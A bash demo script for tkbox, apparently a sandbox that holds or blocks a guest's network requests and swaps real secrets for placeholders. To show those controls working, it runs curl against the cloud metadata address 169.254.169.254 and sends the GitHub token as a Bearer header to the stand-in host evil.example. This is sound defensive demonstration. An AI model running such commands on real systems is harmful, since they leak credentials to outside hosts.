#!/bin/bash
# The demo of the README, as you type it against an installed tkbox (tkbox, tkbox-host, tkbox-signer and
# tkbox-guest-linux-amd64 side by side on PATH). Run it from a git checkout; it uses this directory as the
# box's /workspace and never writes to it (the box's changes come back only as a patch; nothing is applied).
#
#   export GH_TOKEN=ghp_...      # any GitHub token: the box sees only a placeholder
#   IMAGE=python:3.12-slim examples/demo.sh
#
# IMAGE is any Debian-based image `tkbox run --image` takes (docs/cli.md) with python3 and pip (the pypi preset
# reads the image's pip): a registry reference such as python:3.12-slim (needs the registry), `oci:DIR[:NAME]`,
# `docker-archive:FILE`, an ext4 file or a root directory. Without a registry, make a Debian 12 root directory
# with mmdebstrap (as root):
#   mmdebstrap --variant=apt --include=python3,python3-pip,curl,ca-certificates bookworm debian-root
#   IMAGE=./debian-root examples/demo.sh
#
# Two steps wait for a person: when a connection is held, answer it in another terminal on this host with
# `tkbox approvals` and `tkbox approve ID` (example.com) or `tkbox reject ID` (evil.example). Unanswered, it is
# refused after 2 minutes. `make demo` (tests/demo.sh) runs the same steps unattended, with local stand-ins for
# the outside hosts, and checks each one.
set -u
: "${GH_TOKEN:?export GH_TOKEN=ghp_... (any GitHub token) first}"
IMAGE=${IMAGE:-python:3.12-slim}
OUT=${OUT:-${TMPDIR:-/tmp}}
step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }

# A same-user dev signer (made once; started unless one already answers), then the daemon.
if ! tkbox-signer status >/dev/null 2>&1; then
	if [ ! -e "${TKBOX_SIGNER_DIR:-$HOME/.local/share/tkbox-signer}/config.json" ]; then
		step "tkbox-signer init --dev"
		tkbox-signer init --dev || exit 1
	fi
	step "tkbox-signer up --wait"
	tkbox-signer up --wait || exit 1
fi
step "tkbox daemon > $OUT/tkbox-daemon.log 2>&1 &"
tkbox daemon >"$OUT/tkbox-daemon.log" 2>&1 &
until tkbox ls >/dev/null 2>&1; do
	kill -0 $! 2>/dev/null || { cat "$OUT/tkbox-daemon.log"; exit 1; } # it exits when no signer answers
	sleep 1
done

step "tkbox run --image $IMAGE --allow pypi --allow debian --workspace . --name demo --secret GH=env:GH_TOKEN@api.github.com ..."
tkbox run --image "$IMAGE" --allow pypi --allow debian --workspace . --name demo \
	--secret GH=env:GH_TOKEN@api.github.com --env PIP_ROOT_USER_ACTION=ignore --env PIP_DISABLE_PIP_VERSION_CHECK=1 \
	--env PIP_BREAK_SYSTEM_PACKAGES=1 || exit 1 # the last: Debian's own pip installs only with it

step "tkbox exec demo --env DEBIAN_FRONTEND=noninteractive -- sh -c 'apt-get update -q && apt-get install -y -q curl'"
tkbox exec demo --env DEBIAN_FRONTEND=noninteractive -- sh -c 'apt-get update -q && apt-get install -y -q curl'
step "tkbox exec demo -- python3 -c 'print(1+1)'      # 2, recorded as Bash"
tkbox exec demo -- python3 -c 'print(1+1)'
step "tkbox exec demo -- curl -sI https://example.com   # held: in another terminal, tkbox approvals, then tkbox approve ID"
tkbox exec demo -- curl -sI https://example.com
step "tkbox exec demo -- pip install -q requests        # allowed: the pypi preset"
tkbox exec demo -- pip install -q requests
step "tkbox exec demo -- curl -sS https://169.254.169.254/   # refused at once: cloud metadata"
tkbox exec demo -- curl -sS https://169.254.169.254/
step "tkbox exec demo -- sh -c 'echo \"\$GH\"'              # a placeholder, not your token"
tkbox exec demo -- sh -c 'echo "$GH"'
step "tkbox exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" https://evil.example/'   # held, like example.com: tkbox reject ID"
tkbox exec demo -- sh -c 'curl -sS -H "Authorization: Bearer $GH" https://evil.example/'
step "tkbox exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" http://evil.example/'    # blocked at once: a leak"
tkbox exec demo -- sh -c 'curl -sS -H "Authorization: Bearer $GH" http://evil.example/'
echo
step "tkbox exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" https://api.github.com/user | grep \"\\\"login\\\"\"'"
tkbox exec demo -- sh -c 'curl -sS -H "Authorization: Bearer $GH" https://api.github.com/user | grep "\"login\""'
step "tkbox exec demo -- sh -c 'echo hi > /workspace/x.txt' && tkbox diff demo   # a patch with x.txt"
tkbox exec demo -- sh -c 'echo hi > /workspace/x.txt' && tkbox diff demo
step "tkbox stop demo && tkbox export demo -o $OUT/demo.tkb && tkbox verify $OUT/demo.tkb --trust $OUT/demo.trust.json"
tkbox stop demo && tkbox export demo -o "$OUT/demo.tkb" && tkbox verify "$OUT/demo.tkb" --trust "$OUT/demo.trust.json"
step "tkbox view $OUT/demo.tkb --trust $OUT/demo.trust.json -o $OUT/demo.html   # the run as one self-contained page"
tkbox view "$OUT/demo.tkb" --trust "$OUT/demo.trust.json" -o "$OUT/demo.html"
echo
echo "The daemon still runs (pid $!, its log $OUT/tkbox-daemon.log): tkbox rm demo removes the box; kill $! stops it."
